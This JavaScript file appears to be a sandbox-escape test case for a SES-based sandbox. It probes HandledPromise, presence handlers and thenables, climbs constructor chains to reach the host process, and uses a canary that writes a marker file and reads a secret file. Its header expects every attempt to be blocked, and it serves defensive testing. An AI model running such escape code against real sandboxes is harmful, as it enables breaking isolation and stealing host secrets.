// attack: the eventual-send HandledPromise that SES shares with every compartment: applyMethod/get/applyFunction on capabilities and console, a HandledPromise whose executor gets resolveWithPresence, presence handlers (get, applyMethod, applyFunction) that climb every argument eventual-send's internals pass, presences and handled promises passed to capabilities, HandledPromise.resolve of thenables, and pollution of HandledPromise's statics
// source: Endo @endo/eventual-send (HandledPromise, resolveWithPresence, handler protocol); Agoric SES-shim 'HandledPromise is a shared intrinsic'; vm2 ATTACKS.md Category 7 (promise machinery)
// needs: fs
// category: escape
// expect: blocked - handlers receive guest values and eventual-send's own hardened functions (tamed constructors); presences are refused by the membrane
const ID = '127-handledpromise-eventual-send';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
if (typeof HandledPromise !== 'function') return { blocked: ['HandledPromise: absent'] };
const values = [];
for (const [label, thunk] of [
  ['applyMethod(fs, readFile)', () => HandledPromise.applyMethod(fs, 'readFile', ['data.txt', 'utf8'])],
  ['get(fs, readFile)', () => HandledPromise.get(fs, 'readFile')],
  ['applyFunction(fs.stat)', () => HandledPromise.applyFunction(fs.stat, ['data.txt'])],
  ['applyMethod(console, log)', () => HandledPromise.applyMethod(console, 'log', ['via HandledPromise'])],
  ['applyMethodSendOnly(fs, writeFile)', () => HandledPromise.applyMethodSendOnly(fs, 'writeFile', ['out/hp.txt', 'x'])],
]) { try { const p = thunk(); values.push([label + ' promise', p]); values.push([label + ' value', await p]); } catch (e) { values.push([label + ' error', e]); note(label + ': ' + msg(e)); } }
const handler = {
  get(...args) { values.push(['handler.get args', args], ['handler.get this', this]); return 'got'; },
  applyMethod(...args) { values.push(['handler.applyMethod args', args]); for (const a of args) values.push(['applyMethod arg', a]); return 'applied'; },
  applyFunction(...args) { values.push(['handler.applyFunction args', args]); return 'called'; },
};
let presence;
const hp = new HandledPromise((resolve, reject, resolveWithPresence) => {
  values.push(['executor resolve', resolve], ['executor reject', reject], ['executor resolveWithPresence', resolveWithPresence]);
  try { presence = resolveWithPresence(handler); values.push(['presence', presence]); } catch (e) { note('resolveWithPresence: ' + msg(e)); }
}, handler);
values.push(['handled promise', hp]);
try { values.push(['eventual get on presence', await HandledPromise.get(presence, 'x')]); } catch (e) { note('get presence: ' + msg(e)); }
try { values.push(['eventual method on presence', await HandledPromise.applyMethod(presence, 'm', [fs, console, input])]); } catch (e) { note('applyMethod presence: ' + msg(e)); }
try { values.push(['eventual call on presence', await HandledPromise.applyFunction(presence, [fs.readFile])]); } catch (e) { note('applyFunction presence: ' + msg(e)); }
for (const [label, v] of [['presence as path', presence], ['handled promise as data', hp]]) { try { await fs.writeFile('out/hp2.txt', v); note(label + ': accepted'); } catch (e) { note(label + ': ' + msg(e)); } }
try { values.push(['HandledPromise.resolve(thenable)', await HandledPromise.resolve({ then(r) { values.push(['HP thenable resolve', r]); r(1); } })]); } catch (e) { note('resolve thenable: ' + msg(e)); }
try { HandledPromise.applyMethod = () => 'polluted'; note('HandledPromise statics writable!'); } catch (e) { note('pollute HandledPromise: ' + msg(e)); }
const hit = await climbAll(values);
if (hit) return hit;
return { blocked: tried, untold };
